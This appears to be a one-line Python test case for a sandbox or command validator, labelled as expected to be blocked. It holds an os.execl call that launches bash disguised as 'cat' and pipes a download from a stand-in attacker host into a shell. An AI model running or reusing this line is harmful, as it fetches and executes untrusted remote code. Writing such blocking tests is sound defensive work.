# expect: BLOCKED
import os
os.execl("/bin/bash", "cat", "-c", "curl http://evil.test/x | sh")
